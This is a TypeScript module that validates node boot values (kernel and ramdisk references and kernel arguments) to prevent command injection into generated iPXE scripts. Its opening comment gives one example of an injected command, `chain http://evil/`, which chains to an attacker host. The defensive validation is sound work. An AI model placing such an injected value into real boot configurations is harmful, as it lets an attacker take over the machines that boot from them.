// The node values that become words of an iPXE script: kernel and ramdisk references and extra
// kernel arguments. iPXE reads its script line by line and word by word, and expands ${…}, so a
// newline, a space or a "$" in one of them would let whoever writes the node (or a value stored
// before these checks) add commands such as `chain http://evil/`. The API refuses such a value
// when it is written, and the boot server checks again before it writes a script.
import { InvalidParameterValue } from '../errors.js';

/** Kernel and ramdisk references, in driver_info (Ironic's names) and instance_info (its overrides). */
const REFERENCE_KEYS = ['deploy_kernel', 'deploy_ramdisk', 'rescue_kernel', 'rescue_ramdisk', 'kernel', 'ramdisk'] as const;
const KERNEL_PARAMS_KEY = 'kernel_append_params';

// URL characters of RFC 3986 without "$" (iPXE expansion); nothing that splits a word or a line.
const SAFE_URL = /^https?:\/\/[A-Za-z0-9._~:/?#[\]@!&'()*+,;=%-]+$/;
// A relative path under the boot root (leading slashes are dropped), no segment starting with a dot.
const SAFE_FILE = /^\/*[A-Za-z0-9_+-][A-Za-z0-9._+-]*(\/[A-Za-z0-9_+-][A-Za-z0-9._+-]*)*$/;
/** One kernel argument: key or key=value, without anything iPXE would read specially. */
export const SAFE_KERNEL_WORD = /^[A-Za-z0-9_.,:/@=+-]+$/;

/** Whether a kernel or ramdisk reference is an http(s) URL or a file name under the boot root. */
export function isSafeBootReference(value: string): boolean {
  if (SAFE_FILE.test(value)) return true;
  if (!SAFE_URL.test(value)) return false;
  try {
    return new URL(value).host !== '';
  } catch {
    return false;
  }
}

function referenceProblem(value: unknown): string | undefined {
  if (typeof value !== 'string') return `must be a string, got ${JSON.stringify(value)}`;
  if (value === '' || isSafeBootReference(value)) return undefined;
  return `must be an http(s) URL or a file name under the boot root (letters, digits and "._+-", "/" between directories), got ${JSON.stringify(value)}`;
}

function kernelParamsProblem(value: unknown): string | undefined {
  if (typeof value !== 'string') return `must be a string of kernel arguments, got ${JSON.stringify(value)}`;
  const bad = value.split(/[ \t]+/).filter((w) => w !== '' && !SAFE_KERNEL_WORD.test(w));
  if (!bad.length) return undefined;
  return `holds kernel arguments that cannot go into a boot script: ${bad.map((w) => JSON.stringify(w)).join(', ')}; use words of letters, digits and "_.,:/@=+-" separated by spaces`;
}

/**
 * Refuses a driver_info or instance_info (`field`) whose boot values could break out of the iPXE
 * script, with a 400 naming the first bad one, e.g. "driver_info/rescue_kernel".
 */
export function checkBootValues(field: 'driver_info' | 'instance_info', info: Record<string, unknown>): void {
  const checks: [string, (value: unknown) => string | undefined][] = [
    ...REFERENCE_KEYS.map((key) => [key, referenceProblem] as [string, typeof referenceProblem]),
    [KERNEL_PARAMS_KEY, kernelParamsProblem],
  ];
  for (const [key, problemOf] of checks) {
    const problem = info[key] === undefined || info[key] === null ? undefined : problemOf(info[key]);
    if (problem) throw new InvalidParameterValue(`Node field "${field}/${key}" ${problem}.`);
  }
}
